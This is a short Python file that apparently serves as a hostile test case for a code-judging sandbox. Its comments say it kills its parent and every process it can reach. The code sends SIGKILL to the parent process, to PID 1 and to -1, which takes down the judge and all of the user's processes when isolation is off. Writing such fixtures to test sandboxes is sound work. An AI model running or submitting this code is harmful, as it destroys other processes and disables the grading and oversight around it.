# attack: kills its parent and every process it may
# on: solution
# harm: under --trust the judge, the run and everything else of this user dies
# %% solution="overlay"
import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        continue
